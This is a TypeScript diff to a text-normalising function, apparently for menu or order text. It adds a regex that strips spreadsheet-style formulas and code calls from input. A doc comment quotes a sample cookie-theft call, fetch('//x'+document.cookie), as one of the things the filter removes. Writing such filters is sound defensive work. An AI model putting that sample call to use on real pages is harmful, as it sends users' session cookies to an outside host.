@@ -35,6 +35,7 @@ export function normaliseText(text: string): string {
   if (!/^[\x09\x0a\x0d\x20-\x7e]*$/.test(out)) out = plain(out);
   out = out.toLowerCase();
   if (out.includes('<')) out = out.replace(/<\/?[a-z!|][^<>]{0,200}>/g, ' ');
+  if (out.includes('(')) out = out.replace(CODE, ' ');
   if (out.includes('://') || out.includes('www.')) out = out.replace(/(?:https?:\/\/|www\.)\S+/g, ' ');
   out = out.replace(/\bsent from my [\w ]{2,30}$|\bget outlook for \w+$/, ' ');
   if (out.includes('w/')) out = out.replace(/\bw\/o\b/g, ' without ').replace(/\bw\/ ?/g, ' with ');
@@ -43,6 +44,9 @@ export function normaliseText(text: string): string {
   for (const [said, meant] of PHRASES) out = out.replace(said, meant);
   return out;
 }
+
+/** A call as programs and spreadsheets write it: "@sum(1+1)", "fetch('//x'+document.cookie)". Never what was eaten. */
+const CODE = /(?<!\S)(?:[=@]\w{1,40}\([^\s()]{0,200}\)|[\w.]{1,60}\([^\s()]{0,200}(?:['"{}\\=]|\/\/)[^\s()]{0,200}\))\S*/g;
 
 /** Plates that are named as one and are two foods. */
 const PHRASES: readonly (readonly [RegExp, string])[] = [
